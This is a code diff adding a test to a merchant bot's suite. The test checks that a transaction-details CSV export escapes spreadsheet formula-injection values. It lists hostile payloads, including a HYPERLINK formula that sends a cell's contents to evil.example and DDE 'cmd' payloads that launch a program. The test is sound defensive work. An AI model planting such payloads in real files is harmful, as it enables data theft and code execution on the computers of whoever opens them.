@@ -9,6 +9,8 @@ stored changes.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import logging
 import secrets
@@ -226,6 +228,59 @@ async def test_odd_staff_command_arguments_get_usage_or_not_found(
         assert reply and not any(a in reply for a in APOLOGY), (command, reply)
     assert _dump(bot_settings) == before
     assert _errors(caplog) == []
+
+
+# --- the transaction-details CSV -----------------------------------------------------------
+
+# Terminal serials and transaction ids as a hostile or careless acquirer could send them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+async def test_details_csv_cells_that_would_be_formulas_are_escaped_and_amounts_stay_numbers(
+    server: BotApiServer,
+    bot: Application,
+    shop: ChatUser,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(
+        report_views, "clock", lambda: datetime.fromisoformat("2026-11-25T18:00:00+08:00")
+    )
+    await add_transactions(
+        bot.bot_data.storage,
+        *(
+            txn(f"{formula}#{i}", "sale", "1.00", "2026-11-25T13:00:00+08:00",
+                merchant_no=SHOP, terminal=formula)
+            for i, formula in enumerate(FORMULAS)
+        ),
+        txn("-7", "refund", "20.00", "2026-11-25T14:00:00+08:00", merchant_no=SHOP),
+    )  # fmt: skip
+    await shop.send("/summary 2026-11-25")
+    summary = await shop.reply()
+    await shop.press("交易明细", summary)
+    document = await shop.reply()
+    content = server.file_bytes(document["document"]["file_id"]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content, newline="")))
+    header, body = rows[0], rows[1:]
+    assert header[:3] == ["交易时间", "终端号", "交易类型"]
+    by_id = {row[-1]: row for row in body}
+    for i, formula in enumerate(FORMULAS):
+        row = by_id["'" + f"{formula}#{i}"]
+        assert row[1] == "'" + formula  # shown as the text it is, never run
+        assert row[4:6] == ["1.00", "0.00"]  # amounts untouched: still numbers
+    refund = by_id["-7"]  # a plain number is no formula: left as it is
+    assert refund[2] == "退货" and refund[4] == "20.00"
+    # Nothing else in the file starts a formula.
+    starts = ("=", "+", "-", "@", "\t", "\r", "＝")
+    cells = [cell for row in body for cell in row]
+    assert [c for c in cells if c.startswith(starts) and c != "-7"] == []
 
 
 # --- the ingest API ------------------------------------------------------------------------
